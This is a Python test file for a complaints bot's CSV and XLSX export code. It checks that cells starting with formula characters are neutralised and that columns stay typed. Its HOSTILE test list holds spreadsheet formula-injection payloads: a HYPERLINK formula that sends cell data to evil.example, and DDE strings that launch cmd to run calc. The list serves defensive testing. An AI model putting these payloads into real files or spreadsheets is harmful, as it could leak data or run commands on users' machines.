"""Exports that open safely in the office's spreadsheet (bot/core/exports.py): no cell runs as a
formula, and the XLSX beside every CSV has typed columns."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from bot.cli import main as cli_main
from bot.core.exports import Column, safe_cell, to_csv, to_xlsx
from bot.core.names import clean_name
from bot.people.roles import audit
from bot.privacy.registry import AUDIT_COLUMNS, audit_csv, audit_rows
from tests.complaints.test_service import FILED, file, rt  # noqa: F401 - rt is a fixture

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik untuk detail")',
    "+62 812 000 -1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 setelah tab",
    "\r=1+1 setelah CR",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_becomes_text(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("Rp50.000 " + text) == "Rp50.000 " + text  # only the start matters


def test_numbers_and_dates_stay_typed():
    columns = [Column("n", "int"), Column("when", "datetime"), Column("day", "date"),
               Column("index", "decimal2"), Column("nrr", "decimal4"), Column("note")]
    rows = [[-5, datetime(2026, 11, 20, 10, 0, tzinfo=UTC), date(2026, 11, 20), 83.3333,
             3.3333333, "=1+1"]]
    assert list(csv.reader(io.StringIO(to_csv(columns, rows))))[1] == [
        "-5", "2026-11-20T10:00:00+00:00", "2026-11-20", "83.33", "3.3333", "'=1+1"
    ]
    sheet = load_workbook(io.BytesIO(to_xlsx(columns, rows, sheet="t"))).active
    n, when, day, index, nrr, note = sheet[2]
    assert n.value == -5 and n.data_type == "n"
    assert when.value == datetime(2026, 11, 20, 10, 0) and when.is_date
    assert day.value == datetime(2026, 11, 20) and day.is_date and day.number_format == "yyyy-mm-dd"
    assert index.value == pytest.approx(83.3333) and index.number_format == "0.00"
    assert nrr.number_format == "0.0000"
    assert note.value == "=1+1" and note.data_type == "s"  # text, not a formula


def test_hostile_complaint_exports_as_text(rt, db, monkeypatch, capsys, tmp_path):  # noqa: F811
    with db.session() as s:
        # Different citizens: one may file only a few a day. Filing trims the text's ends.
        stored = [
            file(rt, s, description=text + " " + "x" * 20, complainant_name=text,
                 complainant_id=5000 + offset, now=FILED + timedelta(minutes=offset)).description
            for offset, text in enumerate(HOSTILE)
        ]
    monkeypatch.setenv("DATABASE_URL", db.url)
    assert cli_main(["complaints", "export", "2026-11-01", "2026-11-30"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == len(HOSTILE)
    for row, text, description in zip(rows, HOSTILE, stored, strict=True):
        assert row["description"] == "'" + description
        assert row["complainant"] == "'" + clean_name(text)  # names lose tabs and CRs
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    out = tmp_path / "complaints.xlsx"
    assert cli_main(["complaints", "export", "2026-11-01", "2026-11-30", "-o", str(out)]) == 0
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    first = dict(zip(header, sheet[2], strict=True))
    assert first["description"].value == HOSTILE[0] + " " + "x" * 20
    assert first["description"].data_type == "s"
    # 20 Nov 2026 10:00 WIB, as the office's wall-clock time.
    assert first["received_at"].value == datetime(2026, 11, 20, 10, 0)
    assert first["received_at"].is_date
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_audit_export_neutralises_and_types(db):
    with db.session() as s:
        audit(s, actor_id=7, action="complaint.noted", subject="=1+1", note="@evil")
    with db.session() as s:
        rows = list(csv.reader(io.StringIO(audit_csv(s))))
        sheet = load_workbook(io.BytesIO(to_xlsx(AUDIT_COLUMNS, audit_rows(s), sheet="a"))).active
    assert rows[1][2:6] == ["7", "", "complaint.noted", "'=1+1"]  # no API token: a person
    _, at, actor, _token, _, subject, _ = sheet[2]
    assert at.is_date and actor.value == 7 and subject.value == "=1+1"
    assert subject.data_type == "s"
